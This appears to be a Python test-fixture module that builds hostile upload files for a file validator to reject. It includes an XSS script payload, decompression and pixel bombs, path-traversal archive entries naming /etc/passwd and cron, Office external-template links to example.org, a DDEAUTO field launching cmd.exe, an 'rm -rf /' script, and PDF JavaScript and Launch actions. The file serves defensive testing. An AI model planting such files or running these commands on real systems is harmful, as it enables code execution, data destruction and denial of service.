"""Files that people might send to do harm, each with its name; made here, so that no scanner stops the repository."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

import pikepdf
from PIL import Image

EVIL = b"<script>alert(document.domain)</script>"
EXTENSIONS = (".jpg", ".png", ".webp", ".pdf", ".docx", ".xlsx", ".txt")
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MAIN = {".docx": "word/document.xml", ".xlsx": "xl/workbook.xml"}
Hostile = tuple[str, bytes]


def picture(name: str = "PNG", size: tuple[int, int] = (40, 30), **options: Any) -> bytes:
    """Return a small picture."""
    out = io.BytesIO()
    Image.new("RGB", size, (180, 40, 40)).save(out, name, **options)
    return out.getvalue()


def office(extension: str = ".docx", parts: dict[str, Any] | None = None) -> bytes:
    """Return a small office file with more ``parts``; a number stands for so many megabytes of nothing."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": TYPES, MAIN[extension]: "<w/>", **(parts or {})}.items():
            if isinstance(content, int):
                with archive.open(name, "w") as part:
                    for _ in range(content):
                        part.write(bytes(1024 * 1024))
            else:
                archive.writestr(name, content)
    return out.getvalue()


def pdf(change: Any = None) -> bytes:
    """Return a PDF of one page, after ``change`` was made to it."""
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    if change:
        change(document)
    document.save(out)
    return out.getvalue()


def corpus() -> Iterator[Hostile]:
    """Yield every hostile file that must be refused outright."""
    yield from _wrong_kinds()
    yield from _lies()
    yield from _damaged()
    yield from _bombs()
    yield from _office_tricks()
    yield from _text_tricks()


def _wrong_kinds() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + EVIL + b"</svg>"
    for extension in ("svg", "html", "htm", "xhtml", "exe", "js", "vbs", "bat", "ps1", "docm", "xlsm", "doc", "xls"):
        yield f"file.{extension}", svg
    for extension in ("zip", "rar", "7z", "iso", "lnk", "hta", "jar", "swf", "rtf", "eml", "msg", "gif", "bmp", "heic"):
        yield f"file.{extension}", picture()
    yield "no-extension", picture()
    yield "double.pdf.exe", pdf()
    yield "", picture()


def _lies() -> Iterator[Hostile]:
    """Yield files whose content is another than their name says."""
    contents = {
        ".png": picture("PNG"),
        ".jpg": picture("JPEG"),
        ".webp": picture("WEBP"),
        ".pdf": pdf(),
        ".docx": office(),
        ".gif": picture("GIF"),
        ".bmp": picture("BMP"),
        ".exe": b"MZ\x90\0" + bytes(200),
        ".elf": b"\x7fELF" + bytes(200),
        ".svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + EVIL + b"</svg>",
        ".html": b"<!DOCTYPE html><html>" + EVIL,
        ".rtf": b"{\\rtf1 hello}",
        ".ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        ".gz": b"\x1f\x8b\x08" + bytes(60),
        ".mp4": b"\0\0\0\x18ftypmp42" + bytes(60),
    }
    for true, content in contents.items():
        for claimed in EXTENSIONS:
            same_family = {true, claimed} == {".docx", ".xlsx"}
            if claimed != true and not same_family:
                yield f"really{true}{claimed}", content
    for claimed in EXTENSIONS:
        yield f"empty{claimed}", b""
        if claimed != ".txt":
            yield f"words{claimed}", b"These are words. " * 30
    yield "sheet.docx", office(".xlsx")
    yield "late.pdf", b"junk before the head\n" + pdf()
    yield "script.pdf", EVIL + pdf()
    yield "script.docx", EVIL + office()


def _damaged() -> Iterator[Hostile]:
    """Yield files that begin as they should and end in noise."""
    noise = random.Random(5)  # noqa: S311  (the same noise each time)
    whole = {".png": picture("PNG", (300, 300)), ".jpg": picture("JPEG", (300, 300)), ".pdf": pdf(), ".docx": office()}
    whole[".webp"] = picture("WEBP", (300, 300), lossless=True)
    for extension, content in whole.items():
        for number in range(6):
            cut = content[: noise.randrange(20, max(21, len(content) // 2))]
            yield f"cut{number}{extension}", cut
            yield f"noise{number}{extension}", cut + noise.randbytes(2_000)


def _bombs() -> Iterator[Hostile]:
    yield "too-large.txt", b"x" * (25 * 1024 * 1024 + 1)
    for width, height in ((60_000, 60_000), (2**31 - 1, 1), (1, 2**31 - 1), (40_000, 1_001)):
        yield f"pixels{width}.png", _png_header(width, height)
    yield "pixels.webp", _webp_header(16_383, 16_383)
    for megabytes in (101, 400, 900):
        yield f"bomb{megabytes}.docx", office(parts={"word/media/a.emf": megabytes})
    yield "ratio.xlsx", office(".xlsx", {"xl/sharedStrings.xml": 60})
    yield "many.docx", office(parts={f"word/part{number}.xml": "<a/>" for number in range(2_100)})
    yield "liar.docx", _lying_size(office(parts={"word/big.xml": 150}))
    yield "pages.pdf", pdf(lambda document: [document.add_blank_page() for _ in range(2_000)])
    yield "deep.pdf", _deep_pdf()


def _png_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(100_000))) + chunk(b"IEND", b"")


def _webp_header(width: int, height: int) -> bytes:
    size = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    body = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + size
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def _lying_size(archive: bytes) -> bytes:
    """Return the archive with a directory that calls its largest part small."""
    true = struct.pack("<I", 150 * 1024 * 1024)
    return archive.replace(true, struct.pack("<I", 1_000))


def _deep_pdf() -> bytes:
    nested = b"[" * 400 + b"]" * 400
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /Deep " + nested)


def _office_tricks() -> Iterator[Hostile]:
    for extension in MAIN:
        folder = MAIN[extension].partition("/")[0]
        for name in (
            f"{folder}/vbaProject.bin", f"{folder}/vbaData.xml", f"{folder}/activeX/activeX1.xml",
            f"{folder}/embeddings/oleObject1.bin", f"{folder}/embeddings/setup.exe", f"{folder}/evil.js",
            f"{folder}/page.html", f"{folder}/media/picture.svg", f"{folder}/media/setup.dll",
            "../../etc/cron.d/evil", "/etc/passwd", "C:\\evil.xml", "a/../../b.xml",
        ):  # fmt: skip
            yield f"part{extension}", office(extension, {name: b"x"})
        entity = b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'
        yield f"entities{extension}", office(extension, {f"{folder}/more.xml": entity})
        yield f"lower{extension}", office(extension, {f"{folder}/more.xml": entity.replace(b"DOCTYPE", b"doctype")})
        macro = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        yield f"macro{extension}", office(extension, {f"{folder}/types.xml": macro})
        template = b'<Relationship Type="x/attachedTemplate" Target="http://example.org/a.dotm" TargetMode="External"/>'
        yield f"template{extension}", office(extension, {f"{folder}/_rels/settings.xml.rels": template})
        broken_picture = {f"{folder}/media/image1.png": _png_header(60_000, 60_000)}
        yield f"picture{extension}", office(extension, broken_picture)


def relationship(kind: str, target: str, mode: str = "External") -> bytes:
    """Return the relationships of a part: one, of ``kind``."""
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    one = f'<Relationship Id="r1" Type="{types}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{one}</Relationships>".encode()


def reaching_outside() -> Iterator[Hostile]:
    """Yield parts of office files whose relationships load something, in each way to write them."""
    at = "word/_rels/document.xml.rels"
    kinds = ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "externalLinkPath", "video", "x")
    for kind in kinds:
        yield at, relationship(kind, "http://example.org/a")
    template = relationship("attachedTemplate", "http://example.org/a.dotm")
    turned = b'<r:Relationship TargetMode="External" Target="http://example.org/a.dotm" Type="x/attachedTemplate"/>'
    yield at, b'<r:Relationships xmlns:r="x">' + turned + b"</r:Relationships>"
    yield at, template.replace(b'"External"', b"'&#69;xternal'")
    yield at, template.replace(b'"External"', b"\n ' EXTERNAL '").replace(b"TargetMode=", b"TargetMode = ")
    yield at.upper(), template
    yield "word/elsewhere/_rels/evil.dat.rels", template
    yield at, relationship("image", "\\\\example.org\\share\\a.png", "Internal")
    yield at, relationship("image", "file:///c:/a.png", "Internal")
    # A program that a sheet asks for a value (DDE) stands in a part of its own, and is no External relationship.
    yield "xl/_rels/workbook.xml.rels", relationship("externalLink", "externalLinks/externalLink1.xml", "Internal")
    yield "xl/_rels/workbook.xml.rels", relationship("connections", "connections.xml", "Internal")
    yield at, relationship("aFChunk", "page.dat", "Internal")
    yield at, relationship("oleObject", "innocent.dat", "Internal")


def fields(*instructions: str) -> bytes:
    """Return a part of a letter with fields."""
    cut = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in each)
        for each in instructions
    )
    return f"<w:p>{''.join(cut)}</w:p>".encode()


def fields_of_word() -> Iterator[bytes]:
    """Yield parts of letters with a field that reaches out."""
    program = 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'
    yield fields(program)
    yield fields("PAGE", " ddeauto x y")
    yield fields(' LINK Excel.Sheet.8 "c:\\a.xls"')
    yield b"<w:p><w:fldSimple w:instr='DDE x y'/></w:p>"
    yield b"<w:p><w:fldSimple w:instr=' &#73;NCLUDETEXT x'/></w:p>"


def moving(name: str) -> bytes:
    """Return a picture of two moments."""
    out = io.BytesIO()
    second = Image.new("RGB", (40, 30), (40, 180, 40))
    Image.new("RGB", (40, 30), (180, 40, 40)).save(out, name, save_all=True, append_images=[second])
    return out.getvalue()


def pdf_of_photograph(photograph: bytes, *, packed: bool) -> bytes:
    """Return a document that somebody signed, with a photograph on its page, once more compressed where ``packed``."""

    def change(document: Any) -> None:
        looks = {"Width": 40, "Height": 30, "ColorSpace": pikepdf.Name.DeviceRGB, "BitsPerComponent": 8}
        image = document.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, **looks)
        filters = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.DCTDecode])
        image.write(
            zlib.compress(photograph) if packed else photograph,
            filter=filters if packed else pikepdf.Name.DCTDecode,
        )
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Photograph=image))
        document.docinfo["/Author"] = "Olive Author"
        with document.open_metadata() as metadata:
            metadata["dc:title"] = "Olive Author"

    return pdf(change)


def _text_tricks() -> Iterator[Hostile]:
    for start in (
        b"<html>",
        b" \n<!DOCTYPE html>",
        b"\xef\xbb\xbf<script>",
        b"<svg onload=x>",
        b"<?xml version='1.0'?>",
    ):
        yield "markup.txt", start + EVIL
    yield "binary.txt", bytes(range(1, 32)) * 40
    yield "nul.txt", b"words\0words"
    yield "shell.txt", b"#!/bin/sh\nrm -rf /\n"


def polyglots() -> Iterator[tuple[str, bytes]]:
    """Yield files that are what they say and something else as well: taken, without the something else."""
    archive = office(parts={"evil.js": EVIL})
    yield "picture.png", picture("PNG") + archive
    yield "picture.jpg", picture("JPEG", comment=EVIL) + EVIL
    yield "picture.webp", picture("WEBP") + EVIL
    yield "page.pdf", pdf() + b"\n" + archive
    for name in ("/OpenAction", "/AA"):
        yield "action.pdf", pdf(lambda document, name=name: _act(document, name))
    yield "names.pdf", pdf(_named_script)
    yield "link.pdf", pdf(_launching_link)
    yield "files.pdf", pdf(lambda document: document.attachments.__setitem__("evil.js", EVIL))


def _act(document: Any, name: str) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String(EVIL.decode()))
    document.Root[name] = document.make_indirect(action) if name == "/OpenAction" else pikepdf.Dictionary(O=action)


def _named_script(document: Any) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=document.make_stream(EVIL))
    scripts = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
    document.Root["/Names"] = pikepdf.Dictionary(JavaScript=scripts)


def _launching_link(document: Any) -> None:
    launch = pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F=pikepdf.String(EVIL.decode()))
    link = pikepdf.Dictionary(Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), A=launch)
    document.pages[0]["/Annots"] = pikepdf.Array([document.make_indirect(link)])
